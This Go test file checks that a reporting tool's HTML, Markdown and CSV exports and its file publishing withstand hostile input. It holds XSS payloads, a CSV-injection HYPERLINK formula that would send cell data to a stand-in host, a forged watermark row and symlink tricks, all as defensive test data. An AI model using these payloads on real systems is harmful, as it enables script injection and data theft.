package report_test

// Exports and reports against hostile input and edge cases: labels, CSV
// injection, charts that must draw what was released and only that,
// degraded data sets, edge cases of results, and file safety.

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"io"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/persona-workbench/persona/engine/guard"
	"github.com/persona-workbench/persona/engine/inventory"
	"github.com/persona-workbench/persona/engine/report"
	"github.com/persona-workbench/persona/engine/slice"
	"github.com/persona-workbench/persona/engine/views"
)

func lab(s string) inventory.Label { return inventory.Label{ZH: s, EN: s} }

var hostile = []string{
	`</text><script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`"><svg onload=alert(1)>`,
	`]]><foreignObject><iframe src=javascript:alert(1)>`,
	"a | b\n# persona.licence: FORGED",
}

// Hostile labels through every chart kind, tables, notes, leads and a
// view name: no markup gets into the HTML (vgsvg escapes text with
// html.EscapeString, the page is html/template, the aria-label is
// escaped by escapeAttr).
func TestHostileLabelsHTML(t *testing.T) {
	var charts []report.Chart
	for _, kind := range []report.ChartKind{report.Bars, report.HBars, report.Line} {
		c := report.Chart{Kind: kind, Title: lab(hostile[0]), Axis: lab(hostile[1]), Labels: hostile, Values: []float64{1, 2, 3, 4, 5}}
		if kind != report.Line {
			c.Low, c.High = []float64{0, 1, 2, 3, 4}, []float64{2, 3, 4, 5, 6}
		}
		charts = append(charts, c)
	}
	charts = append(charts, report.Chart{Kind: report.Heatmap, Title: lab(hostile[2]), Labels: hostile[:2], Rows: hostile[2:4],
		Grid: [][]float64{{1, 2}, {3, math.NaN()}}})
	r := &report.Report{Title: lab(hostile[0]), Dataset: lab(hostile[1]), Watermark: mark, K: k,
		Sections: []report.Section{{ID: "view-1", Title: lab(hostile[3]), Lead: lab(hostile[2]), Charts: charts,
			Notes: []inventory.Label{lab(hostile[1])},
			Tables: []report.Table{{Caption: lab(hostile[0]), Columns: []inventory.Label{lab(hostile[1]), lab("n")}, Numeric: []bool{false, true},
				Rows: [][]string{{hostile[0], "1"}, {hostile[4], "2"}}, Withheld: []bool{false, false}, Held: [][]bool{{false, false}, {false, false}}}}}}}
	var h, m bytes.Buffer
	if err := r.WriteHTML(&h); err != nil {
		t.Fatal(err)
	}
	page := strings.ToLower(h.String())
	for _, bad := range []string{"<script", "<img", "<svg onload", "<iframe", "<foreignobject"} {
		if i := strings.Index(page, bad); i >= 0 {
			t.Errorf("HTML holds %q: …%s…", bad, page[max(0, i-80):min(len(page), i+80)])
		}
	}
	// The only elements are the page's and the SVG's own.
	for _, tag := range regexp.MustCompile(`<([a-z][a-z0-9]*)`).FindAllStringSubmatch(page, -1) {
		if !slices.Contains([]string{"svg", "g", "path", "text", "html", "head", "meta", "title", "style", "body", "main", "header", "h1", "h2", "small", "p", "nav", "ol", "li", "a", "section", "figure", "div", "table", "caption", "thead", "tr", "th", "tbody", "td", "ul", "span", "footer", "br"}, tag[1]) {
			t.Errorf("unexpected element <%s> in the page", tag[1])
		}
	}
	if err := r.WriteMarkdown(&m); err != nil {
		t.Fatal(err)
	}
	unescaped := regexp.MustCompile(`(^|[^\\])<(script|img|svg|iframe|/text)`)
	for _, line := range strings.Split(m.String(), "\n") {
		if strings.HasPrefix(line, "# persona") || unescaped.MatchString(line) {
			t.Errorf("Markdown line not escaped: %q", line)
		}
		if strings.HasPrefix(line, "| ") && strings.Count(strings.ReplaceAll(line, `\|`, ""), "|") != 3 {
			t.Errorf("Markdown table row has extra cells: %q", line)
		}
	}
}

// A dimension value that starts with '#' must not make its CSV data row
// read as a comment line, which a comment-aware reader (pandas
// comment='#', encoding/csv Comment) would drop, or forge a watermark
// line.
func TestCSVRowCannotForgeWatermark(t *testing.T) {
	res := &slice.Result{
		Query:   slice.Query{Dims: []string{"province"}, Measure: "people"},
		Dims:    []inventory.Field{{Name: "province", Label: lab("省份"), Role: inventory.Dimension}},
		Measure: inventory.MeasureDef{Name: "people", Label: lab("人数"), Kind: inventory.Count},
		K:       k,
		Rows: []slice.Row{
			{Keys: []string{"广东"}, Value: 120, People: 120},
			{Keys: []string{"# persona.licence: LIC-FORGED-9999"}, Value: 57, People: 57},
		},
	}
	var b bytes.Buffer
	if err := report.WriteExport(&b, res, mark, "csv"); err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(strings.NewReader(b.String()))
	cr.Comment = '#'
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs)-1 != len(res.Rows) {
		t.Errorf("a comment-aware CSV reader reads %d data rows, the result has %d", len(recs)-1, len(res.Rows))
	}
	licences := 0
	for _, line := range strings.Split(b.String(), "\n") {
		if strings.HasPrefix(line, "# persona.licence:") {
			licences++
		}
	}
	if licences != 1 {
		t.Errorf("%d lines read as the watermark's licence:\n%s", licences, b.String())
	}
}

// tickNumbers returns the numbers written as text in an SVG.
func tickNumbers(svg string) []float64 {
	var out []float64
	for _, m := range regexp.MustCompile(`(?s)<text[^>]*>([^<]*)</text>`).FindAllStringSubmatch(svg, -1) {
		if v, err := strconv.ParseFloat(strings.TrimSpace(m[1]), 64); err == nil {
			out = append(out, v)
		}
	}
	return out
}

// Horizontal bar charts put the values on the value axis (its range is
// taken when the bars are added, so they must be horizontal by then).
func TestHBarsValueAxis(t *testing.T) {
	vals := []float64{5000, 4200, 3900, 3000, 2500, 2000, 1500, 1200, 900}
	labels := []string{"广东", "浙江", "江苏", "山东", "河南", "四川", "湖北", "湖南", "河北"}
	for _, kind := range []report.ChartKind{report.Bars, report.HBars} {
		svg, err := report.Chart{Kind: kind, Title: lab("人数"), Axis: lab("人数"), Labels: labels, Values: vals}.SVG()
		if err != nil {
			t.Fatal(err)
		}
		top := math.Inf(-1)
		for _, v := range tickNumbers(svg) {
			top = max(top, v)
		}
		if top < 2500 {
			t.Errorf("%s: the value axis's ticks reach %v, the largest bar is 5000", kind, top)
		}
	}
}

// A heatmap whose released cells all hold one value (one released cell,
// or every rate 0%) draws them in colour, not in the withheld grey.
func TestHeatmapOneValue(t *testing.T) {
	c := report.Chart{Kind: report.Heatmap, Title: lab("x"), Labels: []string{"a", "b"}, Rows: []string{"r1", "r2"},
		Grid: [][]float64{{0.25, math.NaN()}, {math.NaN(), math.NaN()}}, Percent: true}
	svg, err := c.SVG()
	if err != nil {
		t.Fatal(err)
	}
	fills := regexp.MustCompile(`fill:#([0-9A-Fa-f]{6})`).FindAllStringSubmatch(svg, -1)
	coloured := 0
	for _, f := range fills {
		if !strings.EqualFold(f[1], "EEEEEE") && !strings.EqualFold(f[1], "FFFFFF") && f[1] != "000000" {
			coloured++
		}
	}
	if coloured == 0 {
		t.Errorf("the one released cell is drawn in the withheld colour")
	}
}

// The brand report degrades with notes on a data set without exposure,
// province/region, age band or categories, and on a population below k.
func TestBrandDegrades(t *testing.T) {
	d := data(t)
	cols, err := d.Store().Columns(context.Background(), d.Inventory.Table)
	if err != nil {
		t.Fatal(err)
	}
	inv := *d.Inventory
	inv.Fields = nil
	for _, f := range d.Inventory.Fields {
		switch f.Name {
		case "campaign_exposure", "province", "province_code", "region", "age_band", "categories", "page_types":
			continue
		}
		inv.Fields = append(inv.Fields, f)
	}
	g, err := guard.New(d.Store(), &inv, cols, k)
	if err != nil {
		t.Fatal(err)
	}
	r := build(t, g, nil, nil)
	if _, _, err := func() (string, string, error) {
		var h, m bytes.Buffer
		return "", "", errorsJoin(r.WriteHTML(&h), r.WriteMarkdown(&m))
	}(); err != nil {
		t.Fatal(err)
	}
	for _, s := range r.Sections {
		if len(s.Tables) == 0 && len(s.Notes) == 0 {
			t.Errorf("section %s says nothing", s.ID)
		}
	}
	// A population below k: everything withheld, nothing panics.
	P, L, _ := smallGroup(t)
	r = build(t, fresh(t), map[string][]string{"province": {P}, "member_level": {L}}, nil)
	var h bytes.Buffer
	if err := r.WriteHTML(&h); err != nil {
		t.Fatal(err)
	}
}

func errorsJoin(errs ...error) error {
	for _, e := range errs {
		if e != nil {
			return e
		}
	}
	return nil
}

// A view of a two-dimension slice with many values (province ×
// categories), a 0-dimension view, a view over nobody.
func TestViewsEdgeCases(t *testing.T) {
	vs := []views.View{
		{Name: "省份 × 品类", Dims: []string{"province", "categories"}, Measure: "gmv_per_person"},
		{Name: "城市 × 省份", Dims: []string{"province_code", "page_types"}, Measure: "people"},
		{Name: "总数", Measure: "aov"},
	}
	r := build(t, fresh(t), nil, vs)
	var h, m bytes.Buffer
	if err := r.WriteHTML(&h); err != nil {
		t.Fatal(err)
	}
	if err := r.WriteMarkdown(&m); err != nil {
		t.Fatal(err)
	}
}

// Exports of an empty result, an all-withheld one and one with an
// undefined value: no panic, and the undefined/withheld values are empty.
func TestExportEdgeCases(t *testing.T) {
	base := func(rows ...slice.Row) *slice.Result {
		return &slice.Result{Query: slice.Query{Dims: []string{"province"}, Measure: "aov"},
			Dims:    []inventory.Field{{Name: "province", Label: lab("省份"), Role: inventory.Dimension}},
			Measure: inventory.MeasureDef{Name: "aov", Label: lab("客单价"), Kind: inventory.Ratio}, K: k, Rows: rows}
	}
	for name, res := range map[string]*slice.Result{
		"empty":    base(),
		"withheld": base(slice.Row{Keys: []string{"西藏"}, Suppressed: true, Reason: slice.FewPeople}),
		"nan":      base(slice.Row{Keys: []string{"广东"}, Value: math.NaN(), People: 40}),
	} {
		for _, f := range report.ExportFormats {
			var b bytes.Buffer
			if err := report.WriteExport(&b, res, mark, f); err != nil {
				t.Errorf("%s %s: %v", name, f, err)
			}
			if f != "parquet" && strings.Contains(b.String(), "NaN") {
				t.Errorf("%s %s writes NaN", name, f)
			}
		}
	}
}

// With --where the reach lead speaks of the population reported on, not
// of the licensed population.
func TestReachShareOfWhom(t *testing.T) {
	r := build(t, fresh(t), map[string][]string{"province": {"广东"}}, nil)
	for _, s := range r.Sections {
		if s.ID == "reach" && (strings.Contains(s.Lead.EN, "of the licensed population") || strings.Contains(s.Lead.ZH, "占授权人群")) {
			t.Errorf("reach over 广东 only: %q", s.Lead.EN)
		}
	}
}

// A time series keeps a withheld period on its axis, as a gap, rather
// than joining its neighbours as if it did not exist.
func TestLineGap(t *testing.T) {
	res := &slice.Result{Query: slice.Query{Dims: []string{"month"}, Measure: "orders"},
		Dims:    []inventory.Field{{Name: "month", Label: lab("月份"), Role: inventory.Time}},
		Measure: inventory.MeasureDef{Name: "orders", Label: lab("订单数"), Kind: inventory.Sum}, K: k,
		Rows: []slice.Row{{Keys: []string{"2026-01"}, Value: 100, People: 50}, {Keys: []string{"2026-02"}, Suppressed: true, Reason: slice.FewContributors},
			{Keys: []string{"2026-03"}, Value: 120, People: 55}}}
	c, ok := report.SliceChart(res)
	if !ok {
		t.Fatal("no chart")
	}
	if len(c.Labels) != len(res.Rows) {
		t.Errorf("the line's axis has %v: the withheld month is not on it, and Jan–Mar are drawn as consecutive points", c.Labels)
	}
}

// A dimension value that starts with = + - @ is written so that a
// spreadsheet does not evaluate it as a formula (CSV injection).
func TestCSVFormula(t *testing.T) {
	res := &slice.Result{Query: slice.Query{Dims: []string{"city"}, Measure: "people"},
		Dims:    []inventory.Field{{Name: "city", Label: lab("城市"), Role: inventory.Dimension}},
		Measure: inventory.MeasureDef{Name: "people", Label: lab("人数"), Kind: inventory.Count}, K: k,
		Rows: []slice.Row{{Keys: []string{`=HYPERLINK("http://x.example/?"&A1,"click")`}, Value: 30, People: 30}}}
	var b bytes.Buffer
	if err := report.WriteExport(&b, res, mark, "csv"); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(b.String(), "\n") {
		if strings.HasPrefix(line, "=") || strings.HasPrefix(line, `"=`) {
			t.Errorf("a formula in the export: %s", line)
		}
	}
}

// Publish: 0600, a symlink at the target is replaced (with overwrite),
// never followed; a directory at the target is refused.
func TestPublishFileSafety(t *testing.T) {
	dir := t.TempDir()
	victim := filepath.Join(dir, "victim.txt")
	os.WriteFile(victim, []byte("keep"), 0o644)
	link := filepath.Join(dir, "out.csv")
	os.Symlink(victim, link)
	body := func(w io.Writer) error { _, err := io.WriteString(w, "x\n"); return err }
	if _, err := report.Publish(link, false, body, nil); !errors.Is(err, report.ErrExists) {
		t.Errorf("symlink to a file, no overwrite: %v", err)
	}
	if _, err := report.Publish(link, true, body, nil); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(victim); string(b) != "keep" {
		t.Errorf("the symlink's target was written: %q", b)
	}
	st, _ := os.Lstat(link)
	if !st.Mode().IsRegular() || st.Mode().Perm() != 0o600 {
		t.Errorf("published file mode %v", st.Mode())
	}
	dangling := filepath.Join(dir, "dangling.csv")
	os.Symlink(filepath.Join(dir, "nowhere", "x"), dangling)
	if _, err := report.Publish(dangling, false, body, nil); !errors.Is(err, report.ErrExists) {
		t.Errorf("a dangling symlink, no overwrite: %v", err)
	}
	if _, err := report.Publish(dangling, true, body, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(dir, "nowhere")); err == nil {
		t.Error("followed a dangling symlink")
	}
	os.Mkdir(filepath.Join(dir, "d.csv"), 0o755)
	if _, err := report.Publish(filepath.Join(dir, "d.csv"), true, body, nil); err == nil {
		t.Error("replaced a directory")
	}
}
